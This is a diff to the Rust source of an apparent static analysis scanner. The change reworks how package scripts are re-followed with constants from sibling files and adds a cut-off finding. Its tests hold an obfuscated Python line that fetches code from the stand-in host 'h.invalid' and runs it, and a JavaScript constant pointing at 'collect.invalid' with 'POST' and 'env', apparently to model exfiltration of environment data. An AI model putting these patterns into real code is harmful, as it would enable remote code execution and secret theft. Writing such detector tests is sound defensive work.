@@ -1,13 +1,13 @@
 //! Scripts that take what they call from constants of other files of their package: what each file gives, and a second
 //! look with all of it.
 
-use std::collections::HashMap;
+use std::rc::Rc;
 
 use super::flows;
 use super::machine::{Machine, Outcome, Reach};
 use crate::analyze::Notes;
-use crate::model::fact::{Literal, UnfinishedScript};
-use crate::model::{Confidence, Evidence, Fact, FactKind, FileKind, Finding, Severity};
+use crate::model::fact::{Constants, UnfinishedScript};
+use crate::model::{Evidence, Fact, FactKind, FileKind, Finding};
 use crate::parse::script::{Language, read};
 
 /// Longest script in bytes that is looked at again, and longest that gives constants.
@@ -34,41 +34,36 @@ pub(super) fn give(kind: FileKind, text: &str, outcome: &Outcome, out: &mut Note
 /// Follows a script again with the constants of its package. What was seen without them is seen again; the caller keeps
 /// what is new.
 #[must_use]
-pub fn follow_again(script: &UnfinishedScript, constants: HashMap<Box<str>, Literal>) -> Vec<Finding> {
+pub fn follow_again(script: &UnfinishedScript, constants: &Constants) -> Vec<Finding> {
     let Some(language) = Language::of(script.kind) else { return Vec::new() };
     let reach = Reach { fuel: super::fuel_for(script.text.len() as u64) };
-    let outcome = Machine::new(read(language, &script.text), reach).with_constants(constants).run();
-    flows::judge(&outcome, false)
+    let outcome = Machine::new(read(language, &script.text), reach).with_constants(Rc::clone(constants)).run();
+    let mut found: Vec<Finding> = flows::judge(&outcome, false)
         .iter()
         .map(|flow| {
-            let note = format!("with constants of other files of the package: {}", flow.note);
-            let mut finding = flow.rule.finding(Evidence::note(note));
-            if let Some(severity) = flow.severity {
-                finding.severity = severity;
-            }
-            if flow.certain {
-                (finding.severity, finding.confidence) = (Severity::Critical, Confidence::Certain);
-            }
-            finding.stages = finding.stages.with(flow.stages());
-            finding.within = flow.event.within.as_deref().map(Into::into);
-            finding
+            flow.finding(Evidence::note(format!("with constants of other files of the package: {}", flow.note)))
         })
-        .collect()
+        .collect();
+    if outcome.cut_off {
+        let note = "more steps, or more depth, than a script is followed for with constants of other files";
+        found.push(flows::READ_IN_PART.finding(Evidence::note(note)));
+    }
+    found
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn constants_of(kind: FileKind, text: &str) -> HashMap<Box<str>, Literal> {
+    fn constants_of(kind: FileKind, text: &str) -> Constants {
         let language = Language::of(kind).unwrap();
         let outcome = Machine::new(read(language, text), Reach { fuel: 100_000 }).run();
-        outcome.constants.into_iter().collect()
+        Rc::new(outcome.constants.into_iter().collect())
     }
 
-    fn rules(kind: FileKind, text: &str, constants: HashMap<Box<str>, Literal>) -> Vec<&'static str> {
+    fn rules(kind: FileKind, text: &str, constants: Constants) -> Vec<&'static str> {
         let script = UnfinishedScript { kind, text: text.into() };
-        follow_again(&script, constants).iter().map(|f| f.rule.id).collect()
+        follow_again(&script, &constants).iter().map(|f| f.rule.id).collect()
     }
 
     #[test]
@@ -78,7 +73,7 @@ mod tests {
                     getattr(__import__(t[:2]), t[2:])(urllib.request.urlopen('https://h.invalid/x').read().decode())";
         let constants = constants_of(FileKind::Python, words);
         assert_eq!(constants.len(), 1);
-        assert!(rules(FileKind::Python, code, HashMap::new()).iter().all(|r| *r == "flow-calls-home"));
+        assert!(rules(FileKind::Python, code, Constants::default()).iter().all(|r| *r == "flow-calls-home"));
         assert!(rules(FileKind::Python, code, constants).contains(&"flow-download-run"));
 
         let places = "const PLACE = ['https', 'collect.invalid', 'POST', 'env'];\nmodule.exports = { PLACE };";
